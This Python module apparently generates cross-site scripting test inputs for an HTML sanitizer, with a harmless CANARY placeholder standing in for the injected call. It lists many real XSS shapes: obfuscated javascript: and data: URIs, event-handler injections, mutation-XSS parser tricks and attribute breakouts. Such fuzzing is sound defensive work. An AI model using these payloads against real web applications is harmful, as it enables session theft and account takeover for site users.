"""Markup that tries to run something, made from parts. CANARY(n) stands for the call that must not happen.

The parts are the known shapes of such attacks: scripts, handlers, addresses with schemes, frames, foreign
content whose parsing changes when it is read again, broken quotes, comments, encodings.
"""

from __future__ import annotations

import itertools
import random
from collections.abc import Iterator

_RUNS = "CANARY(0)"
_SCHEMES = [
    "javascript:{}", "JaVaScRiPt:{}", " javascript:{}", "java\tscript:{}", "java\nscript:{}",
    "\x01javascript:{}", "javascript&colon;{}", "&#106;avascript:{}", "&#x6A;avascript:{}",
    "javascript&#58;{}", "jav&#x09;ascript:{}", "javascript://x%0a{}", "javascript:void({})",
    "vbscript:{}", "data:text/html,<script>{}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload='{}'/>", "feed:javascript:{}", "view-source:javascript:{}",
    "javas\u200bcript:{}", "%6aavascript:{}", "blob:{}",
]  # fmt: skip
_HOLDERS = [
    '<a href="{}">x</a>', "<a href='{}'>x</a>", '<a href="{}" target=_self>x</a>',
    '<iframe src="{}"></iframe>', '<img src="{}">', '<form action="{}"><input type=submit></form>',
    '<button formaction="{}">x</button>', '<object data="{}"></object>', '<embed src="{}">',
    '<svg><a xlink:href="{}"><text y=9>x</text></a></svg>', '<math href="{}">x</math>',
    '<area href="{}">', '<base href="{}//">', '<link rel=stylesheet href="{}">',
    '<meta http-equiv=refresh content="0;url={}">', '<body background="{}">',
    '<table background="{}"><td>x</table>', '<blockquote cite="{}">x</blockquote>',
    '<q cite="{}">x</q>', '<input type=image src="{}">', '<video poster="{}">',
]  # fmt: skip
_HANDLERS = [
    "<img src=x onerror={}>", '<img src=x onerror="{}">', "<img src=x:x onerror={}//",
    "<svg onload={}>", "<svg/onload={}>", "<body onload={}>", "<input autofocus onfocus={}>",
    "<select autofocus onfocus={}>", "<textarea autofocus onfocus={}>", "<details open ontoggle={}>x",
    "<video><source onerror={}></video>", "<video src=x onerror={}>", "<audio src=x onerror={}>",
    "<iframe onload={}></iframe>", "<object data=x onerror={}></object>", "<style onload={}></style>",
    "<marquee onstart={}>x</marquee>", "<a autofocus tabindex=1 onfocus={}>x</a>",
    "<p style='animation:x' onanimationstart={}>x</p>", "<script>{}</script>",
    "<script src='data:text/javascript,{}'></script>", "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>", "<svg><image href=x onerror={}></svg>",
    "<svg><style><img src=x onerror={}></style></svg>", "<math><mi><img src=x onerror={}></mi></math>",
    "<iframe srcdoc='<script>parent.{}</script>'></iframe>",
    "<iframe srcdoc='<img src=x onerror=parent.{}>'></iframe>",
    "<link rel=stylesheet href=x onerror={}>", "<span onclick={} lang=en>x</span>",
    "<b onmouseover={}>x</b>", "<img/src=x/onerror={}>", "<img src=x\nonerror={}>",
    "<img src=x\x0conerror={}>", "<IMG SRC=x OnErRoR={}>", "<img src=x onerror\x00={}>",
    "<<img src=x onerror={}>", "<img src='x'onerror={}>", "<img src=`x` onerror={}>",
    "<image src=x onerror={}>", "<isindex onfocus={} autofocus>",
    "<template><img src=x onerror={}></template>", "<noembed><img src=x onerror={}></noembed>",
    "<x onclick={} tabindex=1 id=x>x</x>",
    "<object type=text/html data='data:text/html,<script>{}</script>'></object>",
    "<embed src='data:text/html,<script>{}</script>'>",
]  # fmt: skip
_MUTATIONS = [
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror={}&gt;\">",
    "<svg></p><style><a id=\"</style><img src=x onerror={}>\">",
    "<math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror={} src>\">",
    "<noscript><p title=\"</noscript><img src=x onerror={}>\">",
    "<svg><p><style><g title=\"</style><img src=x onerror={}>\">",
    "<listing>&lt;img src=x onerror={}&gt;</listing>",
    "<xmp><p title=\"</xmp><img src=x onerror={}>\">", "<plaintext><img src=x onerror={}>",
    "<textarea><p title=\"</textarea><img src=x onerror={}>\">",
    "<title><p title=\"</title><img src=x onerror={}>\">",
    "<style><p title=\"</style><img src=x onerror={}>\">",
    "<iframe><p title=\"</iframe><img src=x onerror={}>\">",
    "<!--<img src=\"--><img src=x onerror={}>\">", "<!--!><img src=x onerror={}>-->",
    "<!--><img src=x onerror={}>-->", "<? foo=\"><img src=x onerror={}>\">",
    "<! foo=\"><img src=x onerror={}>\">", "</ foo=\"><img src=x onerror={}>\">",
    "<![CDATA[<img src=x onerror={}>]]>", "<![CDATA[><img src=x onerror={}>]]>",
    "<select><template><style><!--</style><img src=x onerror={}>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={}>",
    "<table><td><svg><desc><td><style></table><img src=x onerror={}>",
    "<svg><foreignObject><img src=x onerror={}></foreignObject></svg>",
    "<a title='\"><img src=x onerror={}>'>x</a>",
    "<abbr title='&quot;&gt;&lt;img src=x onerror={}&gt;'>x</abbr>",
    "<span lang='\" onmouseover=\"{}'>x</span>", "<span dir='\"><img src=x onerror={}>'>x</span>",
    "<a href='https://x.example/\"onfocus=\"{}\"autofocus=\"'>x</a>",
    "<a href='/\"><img src=x onerror={}>'>x</a>", "&lt;img src=x onerror={}&gt;",
    "&amp;lt;img src=x onerror={}&amp;gt;", "&#60;img src=x onerror={}&#62;",
    "\\x3cimg src=x onerror={}\\x3e", "＜img src=x onerror={}＞", "<s<script>cript>{}</s</script>cript>",
    "<scr\x00ipt>{}</scr\x00ipt>", "<script/>{}</script>",
    "<script\x20type=text/javascript>{};</script>", "<script >{}</script >",
    "{{{{constructor.constructor('{}')()}}}}", "${{{}}}", "<%= {} %>", "<img alt='`' src=x onerror={}>",
    "<img src=\"x` `<script>{}</script>\"` `>", "<ruby><rt><img src=x onerror={}>",
    "<h1><a><h1><img src=x onerror={}></a>", "<b><table><b><img src=x onerror={}>",
]  # fmt: skip
_FRAMES = [
    "{}", "<p>{}</p>", "<blockquote>{}</blockquote>", "<ul><li>{}</li></ul>",
    "<table><tr><td>{}</td><td>x</td></tr></table>", "<h2>{}</h2>", "<b><i>{}</i></b>",
    "<figure><img src=a.jpg><figcaption>{}</figcaption></figure>", "<div lang='{}'>x</div>",
    "<svg>{}</svg>", "<math>{}</math>", "<noscript>{}</noscript>", "<style>{}</style>",
    "<title>{}</title>", "<!--{}-->", "<a href='/x'>{}</a>", "<span lang=en>{}", "<select>{}</select>",
    "<template>{}</template>", "<iframe>{}</iframe>", "<pre>{}</pre>", "<dl><dt>{}<dd>x</dl>",
    "<blockquote class=twitter-tweet>{}<a href='https://x.example/1'>x</a></blockquote>",
    "text &amp; {} text", "<unknown:tag>{}</unknown:tag>",
]  # fmt: skip


def shapes() -> list[str]:
    """Return the attacks that need nobody's click."""
    return [shape.format(_RUNS) for shape in (*_HANDLERS, *_MUTATIONS)]


def payloads(count: int, seed: int = 3) -> Iterator[str]:
    """Yield `count` payloads: every attack by itself, then attacks in frames and beside each other."""
    links = [holder.format(scheme.format(_RUNS)) for holder, scheme in itertools.product(_HOLDERS, _SCHEMES)]
    chance = random.Random(seed)
    chance.shuffle(links)
    alone = [*shapes(), *links]
    yield from alone[:count]
    for _ in range(count - len(alone)):
        inner = chance.choice(shapes())
        for _ in range(chance.randrange(1, 4)):
            inner = chance.choice(_FRAMES).format(inner)
        yield inner + (chance.choice(alone) if chance.random() < 0.3 else "")
